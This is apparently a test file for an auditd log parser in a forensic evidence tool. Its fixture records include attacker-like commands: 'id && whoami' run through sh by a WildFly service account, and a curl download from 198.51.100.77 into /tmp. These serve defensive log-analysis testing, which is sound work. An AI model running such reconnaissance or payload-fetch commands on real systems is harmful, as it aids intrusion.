import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { TempDir, readAll } from './helpers.js';
import { auditExec } from '../../scripts/linux-evidence-lines.js';

const tmp = new TempDir();
after(() => tmp.remove());

test('auditd: one event per record, hex strings decoded, EXECVE gets the command line and its SYSCALL context', async () => {
  const log = [
    'type=SYSCALL msg=audit(1551842001.123:4711): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=1402 pid=2290 auid=4294967295 uid=992 gid=990 euid=992 suid=992 fsuid=992 egid=990 sgid=990 fsgid=990 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/bash" key="exec"',
    // another event's record in between (events may interleave)
    'type=USER_LOGIN msg=audit(1551842001.200:4712): pid=3100 uid=0 auid=1000 ses=7 msg=\'op=login id=1000 exe="/usr/sbin/sshd" hostname=10.20.9.9 addr=10.20.9.9 terminal=ssh res=success\'',
    'type=EXECVE msg=audit(1551842001.123:4711): argc=3 a0="/bin/sh" a1="-c" a2=69642026262077686F616D69',
    'type=CWD msg=audit(1551842001.123:4711): cwd=2F6F70742F77696C6466C3BC2F62696E',
    'type=PROCTITLE msg=audit(1551842001.123:4711): proctitle=2F62696E2F7368002D630069642026262077686F616D69',
    'type=EOE msg=audit(1551842001.123:4711): ',
  ].join('\n') + '\n';
  const r = await readAll(tmp.file('audit.log', log));
  assert.equal(r.format, 'auditd');
  assert.deepEqual(r.problems, []);
  assert.equal(r.events.length, 6);
  const byType = new Map(r.events.map((e) => [e.fields.type as string, e]));
  const sys = byType.get('SYSCALL')!;
  assert.equal(sys.time, 1551842001123);
  assert.equal(sys.source.record, 1);
  assert.equal(sys.fields.serial, '4711');
  assert.equal(sys.fields.a0, '55d0', 'syscall arguments are numbers, not decoded');
  assert.equal(sys.fields.comm, 'sh');
  const ex = byType.get('EXECVE')!;
  assert.equal(ex.source.record, 3);
  assert.equal(ex.fields.a2, 'id && whoami');
  assert.equal(ex.fields.cmdline, '/bin/sh -c id && whoami');
  assert.equal(ex.fields.exe, '/usr/bin/bash');
  assert.equal(ex.fields.ppid, '1402');
  assert.equal(ex.fields.uid, '992');
  assert.equal(ex.fields.cwd, '/opt/wildfü/bin');
  assert.equal(byType.get('PROCTITLE')!.fields.proctitle, '/bin/sh -c id && whoami');
  const login = byType.get('USER_LOGIN')!;
  assert.equal(login.fields.op, 'login');
  assert.equal(login.fields.exe, '/usr/sbin/sshd');
  assert.equal(login.fields.addr, '10.20.9.9');
  assert.equal(login.fields.uid, '0');
});

test('auditd: split arguments, enriched format, node= host, and records after the last EOE', async () => {
  const big = 'A'.repeat(20);
  const log = [
    'node=APP-WF03 type=SYSCALL msg=audit(1551842100.000:5000): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=77 uid=0 comm="echo" exe="/usr/bin/echo" key=(null)\u001dARCH=x86_64 SYSCALL=execve UID="root"',
    `node=APP-WF03 type=EXECVE msg=audit(1551842100.000:5000): argc=2 a0="echo" a1_len=20 a1[0]=${Buffer.from(big.slice(0, 10)).toString('hex').toUpperCase()} a1[1]=${Buffer.from(big.slice(10)).toString('hex').toUpperCase()}`,
  ].join('\n') + '\n';
  const r = await readAll(tmp.file('audit2.log', log));
  assert.deepEqual(r.problems, []);
  const [sys, ex] = r.events;
  assert.equal(sys!.fields.node, 'APP-WF03');
  assert.equal(sys!.fields.UID, 'root');
  assert.equal(sys!.fields.SYSCALL, 'execve');
  assert.equal(sys!.fields.key, '(null)');
  assert.equal(ex!.fields.cmdline, `echo ${big}`);
});

test('auditd: a damaged line is reported by number and the events around it are kept; the helper\'s records round-trip', async () => {
  const lines = auditExec('APP-WF03', 1551842200, 6000, { exe: '/usr/bin/curl', args: ['curl', '-o', '/tmp/a b', 'http://198.51.100.77/k'], ppid: 10, pid: 11, uid: 993, cwd: '/opt/wildfly/bin' });
  lines.splice(2, 0, 'type=CWD msg=audit(garbage): cwd="/"', 'kernel: something else entirely');
  const r = await readAll(tmp.file('audit3.log', lines.join('\n')));
  assert.equal(r.format, 'auditd');
  assert.deepEqual(r.problems.map((p) => p.where), ['line 3', 'line 4']);
  const ex = r.events.find((e) => e.fields.type === 'EXECVE')!;
  assert.equal(ex.fields.cmdline, 'curl -o /tmp/a b http://198.51.100.77/k');
  assert.equal(ex.fields.exe, '/usr/bin/curl');
  assert.equal(r.events.length, 6);
});
